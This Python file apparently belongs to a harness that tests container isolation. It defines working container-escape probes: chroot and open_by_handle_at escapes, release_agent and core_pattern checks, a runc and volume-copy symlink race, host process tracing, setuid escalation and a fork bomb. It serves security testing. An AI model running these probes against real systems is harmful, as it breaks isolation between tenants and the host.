"""The attacks, as a program in a container makes them: run in there by the host's Python, alone.

Each is a function that returns what it has got, in words, or raises OSError with what the kernel
said. It runs in a process of its own, so that none is in another's way. What there is to be got is
told in the variable SCENE, by planted.py.

Source: capabilities(7); Docker, "Seccomp security profiles for Docker"; what else has its name.
"""

from __future__ import annotations

import ctypes
import errno
import json
import os
import signal
import struct
import sys
from contextlib import suppress
from pathlib import Path
from typing import TYPE_CHECKING, Any

if TYPE_CHECKING:
    from collections.abc import Callable

SCENE: dict[str, Any] = json.loads(os.environ.get("SCENE", "{}"))
FORKS = 120  # far more than a program of one's own needs, far less than fills a machine
_SECONDS = 20  # for one attack
_PLACE = "/dev/shm"  # to mount on: every container has it
_CLONE_NEWNS, _CLONE_NEWCGROUP, _CLONE_NEWUSER = 0x20000, 0x02000000, 0x10000000
_MS_REMOUNT_BIND = 0x1020
_USER_KEYRING, _OWN_KEYRING, _KEYCTL_SEARCH, _KEYCTL_READ = -4, -2, 10, 11
_PTRACE_SEIZE = 0x4206
_ADJ_STATUS, _STATUS_AT = 0x10, 40  # in struct timex
_AT_FDCWD, _RENAME_EXCHANGE = -100, 2
_LOW = 1 << 14  # below the lowest address: proc_sys_vm(5), mmap_min_addr
VOLUME, EXCHANGING = "/attacked-volume", "exchanging"


def call(name: str, *arguments: int | bytes | bytearray | None) -> int:
    """Make a system call by its number, as one does whom no library shall stop."""
    libc = ctypes.CDLL(None, use_errno=True)
    passed: list[Any] = []
    for one in arguments:
        if isinstance(one, bytearray):
            passed.append((ctypes.c_char * len(one)).from_buffer(one))
        else:
            passed.append(ctypes.c_long(one) if isinstance(one, int) else one)
    answer = int(libc.syscall(ctypes.c_long(SCENE["calls"][name]), *passed))
    if answer < 0:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    return answer


def a_file() -> str:
    """Read a file of the host's by its path, by /proc, and out of a second chroot."""
    secret = SCENE["file"]
    for way in (secret, f"/proc/1/root{secret}", "/.." * 64 + secret):
        with suppress(OSError):
            return Path(way).read_text()
    outside = os.open("/", os.O_RDONLY)
    os.chroot(_PLACE)
    os.fchdir(outside)
    os.chdir("../" * 64)
    os.chroot(".")
    return Path(secret).read_text()


def a_file_by_its_handle() -> str:
    """Open a file of the host's by its number ("shocker"): open_by_handle_at(2)."""
    kind, handle = SCENE["handle"]
    asked = bytearray(struct.pack("=Ii", len(handle) // 2, kind) + bytes.fromhex(handle))
    there = os.open("/etc/hostname", os.O_RDONLY)  # lies on the file system of the host's root
    return os.read(call("open_by_handle_at", there, asked, os.O_RDONLY), 99).decode()


def a_disk() -> str:
    """Make a node for a disk of the host's, and read it."""
    node = "/dev/attacked"
    os.mknod(node, 0o60600, os.makedev(*SCENE["disk"]))
    return os.read(os.open(node, os.O_RDONLY), 512).rstrip(b"\0").decode()


def kernel_memory() -> str:
    """Read the kernel's memory in /proc/kcore."""
    with Path("/proc/kcore").open("rb") as file:
        if file.read(4) != b"\x7fELF":
            raise OSError(errno.ENODATA, "it is covered")
    return "the memory of all"


def a_descriptor() -> str:
    """Find a descriptor that the runtime has left open."""
    found = []
    for name in os.listdir("/proc/self/fd"):
        with suppress(OSError):
            if int(name) > 2 and os.fstat(int(name)) and int(name) not in SCENE["own"]:
                found.append(os.readlink(f"/proc/self/fd/{name}"))
    if not found:
        raise OSError(errno.EBADF, "none is open")
    return ", ".join(found)


def the_runtime() -> str:
    """Be run in the runtime's place, with its program there to be overwritten (CVE-2019-5736)."""
    try:
        return _opened("/proc/self/exe")
    except OSError as refusal:
        if refusal.errno != errno.ETXTBSY:
            raise
    return "open as soon as it ends"


def a_volume() -> str:
    """Exchange a directory of a volume for a link to / while the host copies (CVE-2018-15664)."""
    way, link = f"{VOLUME}/way", f"{VOLUME}/link"
    os.mkdir(way)
    os.symlink("/", link)
    print(EXCHANGING, flush=True)
    while True:  # whether it has worked, whoever copies sees
        call("renameat2", _AT_FDCWD, way.encode(), _AT_FDCWD, link.encode(), _RENAME_EXCHANGE)


def a_key() -> str:
    """Read a key out of the keyring of the host's root."""
    # What is found is linked to a keyring of one's own: whoever holds a key may read it.
    where = (_USER_KEYRING, b"user", SCENE["key"].encode(), _OWN_KEYRING)
    key = call("keyctl", _KEYCTL_SEARCH, *where)
    content = bytearray(99)
    return content[: call("keyctl", _KEYCTL_READ, key, content, len(content))].decode()


def a_signal() -> str:
    """Signal a process of the host's."""
    os.kill(SCENE["victim"], 0)
    return "it can be killed"


def a_trace() -> str:
    """Trace a process of the host's: ptrace(2)."""
    call("ptrace", _PTRACE_SEIZE, SCENE["victim"], 0, 0)
    return "it obeys"


def a_mount() -> str:
    """Mount a file system."""
    call("mount", b"attack", _PLACE.encode(), b"tmpfs", 0, None)
    return "mounted"


def a_module() -> str:
    """Load a module into the kernel; it is given none, and who may load one hears of that."""
    try:
        call("init_module", b"no module", 9, b"")
    except OSError as refusal:
        if refusal.errno != errno.ENOEXEC:
            raise
    return "it was looked at"


def core_pattern() -> str:
    """Open for writing what the host does with a crash: core_pattern."""
    with suppress(OSError):
        return _opened("/proc/sys/kernel/core_pattern")
    with suppress(OSError):
        call("mount", None, b"/proc/sys", None, _MS_REMOUNT_BIND, None)
        return _opened("/proc/sys/kernel/core_pattern")
    call("mount", b"proc", _PLACE.encode(), b"proc", 0, None)
    return _opened(f"{_PLACE}/sys/kernel/core_pattern")


def release_agent() -> str:
    """Open for writing what the host runs when a v1 control group is empty (CVE-2022-0492)."""
    lines = Path("/proc/self/cgroup").read_text().splitlines()
    hierarchies = [line.split(":")[1] for line in lines]
    known = [one for one in hierarchies if one and not one.startswith("name=")]
    if not known:
        raise OSError(errno.ENODEV, "no hierarchy of v1")
    with suppress(OSError):
        call("unshare", _CLONE_NEWUSER | _CLONE_NEWNS | _CLONE_NEWCGROUP)
    call("mount", b"cgroup", _PLACE.encode(), b"cgroup", 0, known[0].encode())
    return _opened(f"{_PLACE}/release_agent")


def the_clock() -> str:
    """Set the machine's clock; it is set to what it is."""
    timex = bytearray(208)
    call("adjtimex", timex)
    struct.pack_into("=I", timex, 0, _ADJ_STATUS)
    call("adjtimex", timex)
    return "it can be set"


def the_log() -> str:
    """Read the kernel's log: syslog(2)."""
    log = bytearray(4096)
    return f"{call('syslog', 3, log, len(log))} bytes of it"


def user_namespace() -> str:
    """Be root in a user namespace of one's own, where the kernel has more to be attacked."""
    call("unshare", _CLONE_NEWUSER)
    return "root in there"


def bpf() -> str:
    """Make a map for programs in the kernel: bpf(2)."""
    call("bpf", 0, bytearray(struct.pack("=5I", 2, 4, 4, 1, 0).ljust(72, b"\0")), 72)
    return "made"


def io_uring() -> str:
    """Open a ring of requests that no filter sees: io_uring_setup(2)."""
    call("io_uring_setup", 2, bytearray(120))
    return "open"


def userfaultfd() -> str:
    """Stop the kernel half-way at a page of one's own: userfaultfd(2)."""
    call("userfaultfd", 1)
    return "open"


def perf() -> str:
    """Count what everybody does on a processor: perf_event_open(2)."""
    everybody, processor = -1, 0
    attributes = bytearray(struct.pack("=IIQ", 1, 128, 0).ljust(128, b"\0"))
    call("perf_event_open", attributes, everybody, processor, -1, 0)
    return "counting"


def a_fork_bomb() -> str:
    """Fork, again and again."""
    children: list[int] = []
    try:
        for _ in range(FORKS):
            child = os.fork()
            if child == 0:
                signal.pause()
            children.append(child)
    finally:
        for child in children:
            os.kill(child, signal.SIGKILL)
            os.waitpid(child, 0)  # a zombie counts, too
    return f"{FORKS} processes"


def raw_packets() -> str:
    """Write packets with any sender onto its network."""
    os.close(call("socket", 17, 3, 0))  # AF_PACKET, SOCK_RAW
    return "any sender"


def set_user_id() -> str:
    """Become root from user 1000, by a program with the set-user-ID bit."""
    program, (reading, writing) = "/attacked-id", os.pipe()
    Path(program).write_bytes(Path("/usr/bin/id").read_bytes())
    Path(program).chmod(0o4755)
    if os.fork() == 0:
        with suppress(OSError):
            os.setresgid(1000, 1000, 1000)
            os.setresuid(1000, 1000, 1000)
            os.dup2(writing, 1)
            os.execv(program, ["id", "-u"])
        os._exit(1)
    os.close(writing)
    if (told := os.read(reading, 9)) != b"0\n":
        raise OSError(errno.EPERM, f"still {told.decode().strip() or 'root, and no user'}")
    return "root"


def a_program() -> str:
    """Leave a changed program behind in its root."""
    os.close(os.open("/attacked", os.O_CREAT | os.O_WRONLY, 0o755))
    return "it is there"


def one_kernel() -> str:
    """Call the very kernel that all containers and the host call."""
    if Path("/proc/sys/kernel/random/boot_id").read_text() != SCENE["boot"]:
        raise OSError(errno.EXDEV, "another kernel")
    return "the host's"


def _opened(path: str) -> str:
    os.close(os.open(path, os.O_WRONLY))
    return "open for writing"


ATTACKS: dict[str, Callable[[], str]] = {
    "a file": a_file,
    "a file by its handle": a_file_by_its_handle,
    "a disk": a_disk,
    "kernel memory": kernel_memory,
    "a left descriptor": a_descriptor,
    "the runtime": the_runtime,
    "a volume": a_volume,
    "root's key": a_key,
    "a signal": a_signal,
    "a trace": a_trace,
    "a mount": a_mount,
    "a module": a_module,
    "core_pattern": core_pattern,
    "release_agent": release_agent,
    "the clock": the_clock,
    "the kernel's log": the_log,
    "a user namespace": user_namespace,
    "bpf": bpf,
    "io_uring": io_uring,
    "userfaultfd": userfaultfd,
    "perf": perf,
    "a fork bomb": a_fork_bomb,
    "raw packets": raw_packets,
    "set-user-ID": set_user_id,
    "a changed program": a_program,
    "one kernel": one_kernel,
}

# These are made while the runtime does something for the container: see measure.py.
WITH_THE_RUNTIME = ("the runtime", "a volume")


def outcome(attack: Callable[[], str]) -> tuple[bool, str]:
    """Make an attack in a process of its own; return whether it got through, and a word on it."""
    reading, writing = os.pipe()
    child = os.fork()
    if child == 0:
        SCENE["own"] = [writing]
        os.close(reading)
        signal.alarm(_SECONDS)
        try:
            told = (True, attack())
        except OSError as refusal:
            told = (False, errno.errorcode.get(refusal.errno or 0, str(refusal)))
        os.write(writing, json.dumps(told).encode())
        os._exit(0)
    os.close(writing)
    with os.fdopen(reading) as answer:
        text = answer.read()
    _, status = os.waitpid(child, 0)
    if not text:
        number = os.WTERMSIG(status) if os.WIFSIGNALED(status) else 0
        return False, signal.Signals(number).name if number else "nothing said"
    through, word = json.loads(text)
    return through, word


def refusal(name: str) -> Callable[[], str]:
    """Return a call that does no harm: where it is let through, the kernel finds fault with it.

    It is made with arguments that are as large as can be, and with small ones: a filter may let
    either through. Neither is an address, or a descriptor.
    """

    def made() -> str:
        try:
            return str(call(name, *[-1] * 5))
        except OSError as refusal:
            if refusal.errno != errno.EPERM:
                raise
        return str(call(name, *[_LOW] * 5))

    return made


if __name__ == "__main__":
    alone = {name: attack for name, attack in ATTACKS.items() if name not in WITH_THE_RUNTIME}
    made = {name: ATTACKS.get(name) or refusal(name) for name in sys.argv[1:]} or alone
    print(json.dumps({name: outcome(attack) for name, attack in made.items()}))
